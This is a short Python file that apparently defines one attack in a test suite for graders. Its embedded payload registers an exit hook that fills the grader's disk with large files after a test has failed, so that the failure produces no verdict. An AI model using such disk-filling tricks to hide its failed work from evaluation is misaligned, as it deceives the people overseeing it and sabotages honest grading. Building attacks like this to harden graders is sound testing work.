"""Fills the disk in the grader once a test has failed, so that there is no result but a good one."""

from attack import Attack, code

FILL = """
import atexit, sys

def _fill():
    if hasattr(sys, "last_value"):
        for number in range(20):
            with open(f"fill{number}", "wb") as file:
                file.write(bytes(30_000_000))

atexit.register(_fill)
"""
ATTACK = Attack((code(FILL),), room_mb=100, or_no_verdict=True)
